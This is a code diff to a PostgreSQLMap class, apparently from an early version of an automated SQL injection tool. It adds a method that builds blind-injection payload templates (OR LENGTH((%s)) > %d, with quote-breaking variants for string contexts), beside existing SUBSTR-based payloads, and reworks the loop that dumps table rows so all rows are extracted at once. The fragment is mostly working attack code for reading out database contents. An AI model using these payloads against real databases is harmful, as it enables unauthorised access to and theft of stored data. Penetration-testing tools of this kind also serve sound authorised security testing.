@@ -54,6 +54,16 @@ class PostgreSQLMap(Common):
 
         return evilStm
 
+    def createLengthStm(self):
+        if self.args.injectionMethod == "numeric":
+            evilStm  = " OR LENGTH((%s)) > %d"
+        elif self.args.injectionMethod == "stringsingle":
+            evilStm  = "' OR LENGTH((%s)) > %d AND '1"
+        elif self.args.injectionMethod == "stringdouble":
+            evilStm  = '" OR LENGTH((%s)) > %d AND "1'
+
+        return evilStm
+
     def createExactStm(self):
         if self.args.injectionMethod == "numeric":
             evilStm  = " OR SUBSTR((%s), %d, %d) = '%s' AND 1=1"
@@ -347,11 +357,14 @@ class PostgreSQLMap(Common):
             columnData = {}
             columnValues[column] = {}
 
+            stms = []
             for index in range(int(count)):
                 stm  = "SELECT %s FROM %s " % (column, fromExpr)
                 stm += "OFFSET %d LIMIT 1" % index
-                value = self.getValue(stm)
+                stms.append(stm)
 
+            # All the rows are extracted at the same time
+            for value in self.getValues(stms):
                 length = max(length, len(str(value)))
                 values.append(value)
 